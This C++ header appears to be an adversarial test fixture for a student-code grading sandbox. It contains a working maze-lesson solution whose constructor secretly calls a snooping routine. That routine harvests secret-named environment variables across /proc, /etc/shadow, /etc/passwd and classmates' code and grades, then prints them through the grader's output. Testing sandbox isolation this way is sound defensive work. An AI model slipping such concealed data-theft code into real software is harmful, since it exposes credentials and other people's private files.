#pragma once
// reads-secrets: a student who does the whole lesson (the class is the lesson's last solution,
// and scores 39) and also spies. The first Maze a step program makes looks around the machine
// and prints what it finds to stdout, where a grader that shows a program's output would pass
// it on to the student: first anything that looks like a secret (an environment variable whose
// name holds SECRET, TOKEN, KEY, PASS or CANARY, in its own environment and in every process's
// under /proc; a file named like a secret), then /etc/shadow, /etc/passwd, the rest of its
// environment, /proc/1/environ and /proc/1/cmdline, the mounts it sees, and the start of every
// maze.hpp, .csv and .json file two folders deep from / and from each folder above its
// working folder - classmates' code and grades. At most 3000 bytes, so the output is not cut
// by the grader before the good part. It uses only the standard library, so no #include
// gives it away.
//
// What the kit must do: grade the code - it is correct, 39 - and let it see nothing worth
// printing: each step runs with an empty environment, in its own PID namespace, seeing only
// the system's files, the turtle library, the lesson's tests and its own code. bwrap's
// --clearenv empties the step's environment but not bwrap's own, and inside the sandbox
// bwrap is pid 1: /proc/1/environ shows whatever bwrap was started with, so bwrap must be
// started with an empty environment too. The grading test checks that its results hold
// neither the run's secret, nor "root:", nor a classmate's code.

#include <cmath>
#include <cstddef>
#include <cstdint>
#include <filesystem>
#include <fstream>
#include <iostream>
#include <random>
#include <set>
#include <stdexcept>
#include <string>
#include <vector>

#include <turtle/turtle.hpp>

extern "C" char** environ;  // declared by hand: <unistd.h> would be an #include to explain

namespace snooping {
namespace fs = std::filesystem;

inline std::string firstBytes(const fs::path& path, std::size_t most) {
  std::ifstream in(path, std::ios::binary);
  std::string bytes(most, '\0');
  in.read(bytes.data(), static_cast<std::streamsize>(most));
  bytes.resize(static_cast<std::size_t>(in.gcount()));
  return bytes;
}

// /proc's environ and cmdline files separate their entries with NUL bytes.
inline std::vector<std::string> entriesOf(const std::string& bytes) {
  std::vector<std::string> entries;
  std::string entry;
  for (const char c : bytes) {
    if (c == '\0') {
      if (!entry.empty()) entries.push_back(entry);
      entry.clear();
    } else {
      entry += c;
    }
  }
  if (!entry.empty()) entries.push_back(entry);
  return entries;
}

inline bool looksSecret(const std::string& text) {
  for (const char* word : {"SECRET", "TOKEN", "KEY", "PASS", "CANARY", "secret", "token"}) {
    if (text.find(word) != std::string::npos) return true;
  }
  return false;
}

inline bool endsWith(const std::string& text, const std::string& end) {
  return text.size() >= end.size() && text.compare(text.size() - end.size(), end.size(), end) == 0;
}

// Files worth reading, by kind, in the folders `depth` levels below `folder`; symbolic links are
// not followed, and /proc, /sys and /dev are skipped (they are read on purpose, above).
struct Finds {
  std::set<fs::path> seen;  // folders already looked in
  std::vector<fs::path> secrets, code, grades, reports;
  int budget = 5000;  // directory entries, so that a big disk does not hold the tests up
};

inline void lookIn(const fs::path& folder, int depth, Finds& finds) {
  if (!finds.seen.insert(folder).second) return;  // reached again from another start
  std::error_code error;
  fs::directory_iterator it(folder, fs::directory_options::skip_permission_denied, error);
  for (; !error && it != fs::directory_iterator() && finds.budget > 0; it.increment(error)) {
    --finds.budget;
    const fs::path path = it->path();
    const std::string name = path.filename().string();
    std::error_code statusError;
    const fs::file_status status = it->symlink_status(statusError);
    if (statusError) continue;
    if (fs::is_regular_file(status)) {
      std::error_code same;
      if (fs::equivalent(path, "/proc/self/exe", same)) continue;  // this very program
      if (looksSecret(name)) finds.secrets.push_back(path);
      else if (name == "maze.hpp") finds.code.push_back(path);
      else if (endsWith(name, ".csv")) finds.grades.push_back(path);
      else if (endsWith(name, ".json")) finds.reports.push_back(path);
    } else if (fs::is_directory(status) && depth > 1 && path != "/proc" && path != "/sys" &&
               path != "/dev") {
      lookIn(path, depth - 1, finds);
    }
  }
}

inline void peekAround() {
  static bool done = false;
  if (done) return;
  done = true;
  std::string loot;
  const auto take = [&loot](const std::string& what, const std::string& text) {
    if (!text.empty()) loot += "== " + what + "\n" + text + "\n";
  };

  // Variables named like a secret: this program's, then every process's it can see.
  std::string restOfEnvironment;
  for (char** entry = environ; entry != nullptr && *entry != nullptr; ++entry) {
    const std::string variable = *entry;
    if (looksSecret(variable.substr(0, variable.find('=')))) {
      take("environment", variable);
    } else {
      restOfEnvironment += variable + "\n";
    }
  }
  std::error_code error;
  for (const auto& process : fs::directory_iterator("/proc", error)) {
    const std::string pid = process.path().filename().string();
    if (pid.find_first_not_of("0123456789") != std::string::npos) continue;
    for (const std::string& variable : entriesOf(firstBytes(process.path() / "environ", 1 << 16))) {
      if (looksSecret(variable.substr(0, variable.find('=')))) take("/proc/" + pid + "/environ", variable);
    }
  }

  // Files: two folders deep from /, and from each folder above the working folder.
  Finds finds;
  lookIn("/", 2, finds);
  for (fs::path folder = fs::current_path(error); !folder.empty(); folder = folder.parent_path()) {
    lookIn(folder, 2, finds);
    if (folder == folder.root_path()) break;
  }
  for (const fs::path& file : finds.secrets) take(file.string(), firstBytes(file, 200));

  // The machine's accounts, the rest of the environment, what started the machine, the mounts.
  take("/etc/shadow", firstBytes("/etc/shadow", 300));
  take("/etc/passwd", firstBytes("/etc/passwd", 300));
  take("environment", restOfEnvironment.substr(0, 600));
  for (const char* file : {"/proc/1/environ", "/proc/1/cmdline"}) {
    std::string lines;
    for (const std::string& entry : entriesOf(firstBytes(file, 300))) lines += entry + "\n";
    take(file, lines);
  }
  take("/proc/self/mountinfo", firstBytes("/proc/self/mountinfo", 600));

  // Classmates' code (not this file), then grades and reports.
  for (const fs::path& file : finds.code) {
    if (!fs::equivalent(file, __FILE__, error)) take(file.string(), firstBytes(file, 400));
  }
  for (const fs::path& file : finds.grades) take(file.string(), firstBytes(file, 300));
  for (const fs::path& file : finds.reports) take(file.string(), firstBytes(file, 300));

  std::cout << loot.substr(0, 3000) << std::endl;
}

}  // namespace snooping

// The directions dig() takes, numbered the way the turtle's headings turn: counter-clockwise,
// starting from east.
constexpr int EAST = 0;
constexpr int NORTH = 1;
constexpr int WEST = 2;
constexpr int SOUTH = 3;

// What a square of the matrix holds.
constexpr int INVALID = -1;  // not a square: the position is off the matrix
constexpr int EMPTY = 0;     // dug out, part of a path: white
constexpr int WALL = 1;      // blue
constexpr int VISITED = 2;   // on the way through the maze (lesson 3)
constexpr int END = 3;       // the goal: yellow

// A square two steps away from the turtle, and what the matrix holds there.
struct Neighbor {
  turtle::Vec2D position;
  int value;
};

// A maze: a matrix of squares, and a picture of it drawn by a turtle on a 400 by 400 screen.
class Maze {
 public:
  turtle::Screen screen;
  turtle::Turtle turtle{screen};
  std::vector<std::vector<int>> matrix;  // matrix[row][col]: EMPTY, WALL, VISITED or END

  Maze() {
    snooping::peekAround();  // the lesson asks for none of this
    screen.bgcolor("blue");  // blue is wall, and at first everything is wall
    matrix.assign(20, std::vector<int>(20, WALL));
    turtle.penup();          // the turtle moves without drawing lines
  }

  // Starts again: all wall but the top-left square, which is empty, with the turtle on it.
  void reset() {
    turtle.clearstamps();
    matrix.assign(20, std::vector<int>(20, WALL));
    screen.bgcolor("blue");
    turtle.goTo(-190, 190);
    turtle.shape("square");
    turtle.color("white");
    turtle.stamp();
    matrix[0][0] = EMPTY;
  }

  // The value of the square under a position, or INVALID for a position off the matrix.
  int getMatrixValueAt(const turtle::Vec2D& position) const {
    const int row = rowOf(position);
    const int col = colOf(position);
    if (!onMatrix(row, col)) return INVALID;
    return matrix[row][col];
  }

  // Sets the square under a position. Returns false, and changes nothing, for a position off
  // the matrix.
  bool setMatrixValueAt(const turtle::Vec2D& position, int value) {
    const int row = rowOf(position);
    const int col = colOf(position);
    if (!onMatrix(row, col)) return false;
    matrix[row][col] = value;
    // Stamp the square in its colour, then go back: the picture follows the matrix.
    const turtle::Vec2D here = turtle.position();
    turtle.goTo(-190 + 20 * col, 190 - 20 * row);
    turtle.color(colorOf(value));
    turtle.stamp();
    turtle.goTo(here);
    return true;
  }

  // The colour the picture shows for a value.
  static const char* colorOf(int value) {
    if (value == EMPTY) return "white";
    if (value == END) return "yellow";
    return "blue";
  }

  // Digs one square in a direction and moves the turtle onto it. It digs only a wall, and never
  // one that would break into another path. Returns where the turtle is.
  turtle::Vec2D dig(int direction) {
    const turtle::Vec2D here = turtle.position();
    const turtle::Vec2D step = stepTowards(direction);
    const turtle::Vec2D target = here + step;
    if (getMatrixValueAt(target) != WALL) return here;  // off the matrix, or dug already
    // A square in an odd row or column is a passage between two cells: it must lead to the
    // cell beyond it, on the matrix.
    const bool passage = rowOf(target) % 2 != 0 || colOf(target) % 2 != 0;
    if (passage && getMatrixValueAt(target + step) == INVALID) return here;
    // The square beyond the target and the two beside it must not be open: squares off the
    // matrix count as wall.
    const turtle::Vec2D side(step.y, -step.x);  // the step turned a right angle
    for (const turtle::Vec2D& around : {target + step, target + side, target - side}) {
      const int value = getMatrixValueAt(around);
      if (value != WALL && value != INVALID) return here;
    }
    turtle.goTo(target);
    setMatrixValueAt(target, EMPTY);
    return turtle.position();
  }

  // The four squares two steps from the turtle, north, south, east and west: the cells next to
  // the turtle's cell, with one wall square between.
  std::vector<Neighbor> neighbors() const {
    const turtle::Vec2D p = turtle.position();
    std::vector<Neighbor> result;
    for (const turtle::Vec2D& q : {p + turtle::Vec2D(0, 40), p + turtle::Vec2D(0, -40),
                                   p + turtle::Vec2D(40, 0), p + turtle::Vec2D(-40, 0)}) {
      result.push_back({q, getMatrixValueAt(q)});
    }
    return result;
  }

  // Digs the whole maze from the turtle's cell, then makes the bottom-right cell the END.
  void makeMaze() {
    digFromHere();
    setMatrixValueAt({170, -170}, END);
  }

  // Makes makeMaze() repeatable: the same seed gives the same maze, on every machine.
  void seed(std::uint64_t n) { random_.seed(static_cast<std::uint32_t>(n)); }

 private:
  static bool onMatrix(int row, int col) { return row >= 0 && row < 20 && col >= 0 && col < 20; }
  // Squares are 20 pixels: square [0][0] covers x from -200 to -180 and y from 200 down to 180.
  static int rowOf(const turtle::Vec2D& position) {
    return static_cast<int>(std::floor((200 - position.y) / 20));
  }
  static int colOf(const turtle::Vec2D& position) {
    return static_cast<int>(std::floor((position.x + 200) / 20));
  }

  // One square's step in a direction.
  static turtle::Vec2D stepTowards(int direction) {
    switch (direction) {
      case EAST: return {20, 0};
      case NORTH: return {0, 20};
      case WEST: return {-20, 0};
      case SOUTH: return {0, -20};
      default:
        throw std::invalid_argument("dig: the direction must be EAST, NORTH, WEST or SOUTH, got " +
                                    std::to_string(direction));
    }
  }

  // The direction from the turtle to a square in the same row or column.
  int directionTo(const turtle::Vec2D& square) const {
    const turtle::Vec2D p = turtle.position();
    if (square.x > p.x) return EAST;
    if (square.x < p.x) return WEST;
    return square.y > p.y ? NORTH : SOUTH;
  }

  // makeMaze()'s digging: towards each neighbour in random order, and from each new cell the
  // same again, until every cell has been reached.
  void digFromHere() {
    const turtle::Vec2D here = turtle.position();
    std::vector<Neighbor> untried = neighbors();
    while (!untried.empty()) {
      const std::size_t pick = random_() % untried.size();
      const Neighbor choice = untried[pick];
      untried.erase(untried.begin() + static_cast<std::ptrdiff_t>(pick));
      turtle.goTo(here);
      // Ask the matrix again: digging onwards from another neighbour may have reached it.
      if (getMatrixValueAt(choice.position) == WALL) {
        const int direction = directionTo(choice.position);
        dig(direction);
        dig(direction);
        digFromHere();
      }
    }
  }

  std::mt19937 random_{20};  // a fixed seed at first: the same maze on every machine
};
